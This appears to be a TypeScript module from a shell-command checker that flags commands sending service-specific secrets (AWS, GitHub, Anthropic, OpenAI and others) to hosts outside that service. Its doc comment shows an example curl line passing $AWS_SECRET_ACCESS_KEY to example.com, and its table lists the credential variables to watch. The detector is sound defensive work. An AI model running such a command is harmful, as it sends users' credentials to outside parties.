import type { FoundEffect } from '../../../shell/effect.ts'
import { isLocalHost } from '../../../shell/hosts.ts'

/**
 * A token that by its variable belongs to one service, on its way to a machine that by its name is none of that
 * service's: `curl "https://example.com/?k=$AWS_SECRET_ACCESS_KEY"`. A variable that names no service says nothing.
 */
export function foreignToken({
  effect,
  command,
}: FoundEffect): { readonly name: string; readonly host: string } | undefined {
  if (effect.kind !== 'net' || effect.host === undefined || isLocalHost(effect.host)) return undefined
  const { host } = effect
  const names = command.args
    .flatMap((word) => word.forms.flat())
    .flatMap((piece) => (piece.kind === 'unknown' ? (/^\$\{?(\w+)/.exec(piece.text)?.[1] ?? []) : []))
  const name = names.find((each) =>
    OWNERS.some(([variable, owner]) => variable.test(each) && !owner.test(host)),
  )
  return name === undefined ? undefined : { name, host }
}

const OWNERS: readonly (readonly [variable: RegExp, host: RegExp])[] = [
  [/^AWS_(?:SECRET_ACCESS_KEY|SESSION_TOKEN)$/, /aws|amazon/],
  [/^(?:GITHUB|GH)_(?:TOKEN|PAT)$/, /git|gh/],
  [/^ANTHROPIC_(?:API_KEY|AUTH_TOKEN)$/, /anthropic|claude/],
  [/^OPENAI_API_KEY$/, /openai|azure/],
  [/^(?:GEMINI|GOOGLE)_API_KEY$/, /google|gemini/],
  [/^STRIPE_SECRET_KEY$/, /stripe/],
  [/^SLACK_(?:BOT_)?TOKEN$/, /slack/],
  [/^(?:HF|HUGGINGFACE)_TOKEN$/, /hugging|hf\./],
]
